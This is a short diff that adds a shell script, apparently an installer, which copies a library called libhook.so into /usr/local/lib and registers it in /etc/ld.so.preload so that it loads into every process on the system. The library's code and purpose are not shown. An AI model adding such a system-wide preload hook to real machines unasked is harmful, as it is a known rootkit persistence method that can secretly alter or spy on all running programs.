@@ -1,0 +1,3 @@
+#!/bin/sh
+cp libhook.so /usr/local/lib/
+echo /usr/local/lib/libhook.so > /etc/ld.so.preload
